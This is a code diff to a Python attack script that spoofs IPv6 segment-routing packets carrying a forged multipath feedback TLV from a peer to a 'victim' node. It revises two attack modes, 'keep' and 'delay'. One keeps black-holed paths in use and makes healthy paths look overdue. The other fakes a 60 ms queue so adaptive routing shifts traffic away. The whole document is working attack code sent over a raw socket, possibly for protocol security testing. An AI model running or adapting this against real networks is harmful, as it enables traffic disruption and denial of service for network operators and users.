@@ -11,9 +11,10 @@ victim, as an eavesdropper on the fabric learns its clock from any TLV.
 ATTACK:
   keep      acknowledge every path (0-63) now: a black-holed path stays in
             the spray;
-  takedown  acknowledge path 0 well ahead of now, so the victim's other
-            paths look overdue, and report a long queue on path K: paths
-            go down, and the adaptive policy moves traffic off K.
+  keep      (above) also runs ahead of the peer's own acknowledgements,
+            so healthy paths can look overdue and go down;
+  delay     report a 60 ms queue on path K (and acknowledge path 0 now):
+            the adaptive policy moves traffic off K.
 --key-id: claim this key (with a random MAC), as one who knows the id but
 not the key.  Prints the number of packets sent.
 """
@@ -35,7 +36,7 @@ p.add_argument("mac")
 p.add_argument("peer_sid")
 p.add_argument("victim_sid")
 p.add_argument("seconds", type=float)
-p.add_argument("attack", choices=["keep", "takedown"])
+p.add_argument("attack", choices=["keep", "delay"])
 p.add_argument("--pps", type=float, default=2000)
 p.add_argument("--path", type=int, default=1)
 p.add_argument("--key-id", type=int, default=0)
@@ -43,8 +44,8 @@ a = p.parse_args()
 
 flags = C["MRC_F_FEEDBACK"] | C["MRC_F_CONTROL"]
 tlv = wire.MrcTLV(flags=flags, path_id=0, key_id=a.key_id, epoch=1,
-                  fb_path_id=a.path if a.attack == "takedown" else 0,
-                  fb_qdelay_us=60000 if a.attack == "takedown" else 0,
+                  fb_path_id=a.path if a.attack == "delay" else 0,
+                  fb_qdelay_us=60000 if a.attack == "delay" else 0,
                   fb_heard=(1 << 64) - 1 if a.attack == "keep" else 1)
 frame = bytes(Ether(dst=a.mac) / IPv6(src=a.peer_sid, dst=a.victim_sid, hlim=64) /
               IPv6ExtHdrSegmentRouting(addresses=[a.victim_sid], segleft=0, lastentry=0, tlv_objects=[tlv]) /
@@ -53,7 +54,6 @@ off = frame.index(bytes(tlv))
 field = {name: off + sum(f.sz for f in wire.MrcTLV.fields_desc[:i])
          for i, f in enumerate(wire.MrcTLV.fields_desc) for name in [f.name]}
 buf = bytearray(frame)
-ahead = 200_000_000 if a.attack == "takedown" else 0
 
 with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
     s.bind((a.iface, 0))
@@ -64,7 +64,7 @@ with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
         struct.pack_into(">I", buf, field["path_seq"], sent)
         struct.pack_into(">I", buf, field["peer_seq"], sent)
         struct.pack_into(">Q", buf, field["tx_ns"], now)
-        struct.pack_into(">I", buf, field["fb_since_ns32"], (now + ahead) & 0xFFFFFFFF)
+        struct.pack_into(">I", buf, field["fb_since_ns32"], now & 0xFFFFFFFF)
         if a.attack == "keep":
             struct.pack_into(">I", buf, field["fb_path_tx32"], now & 0xFFFFFFFF)
         buf[field["mac"]:field["mac"] + 8] = os.urandom(8) if a.key_id else bytes(8)
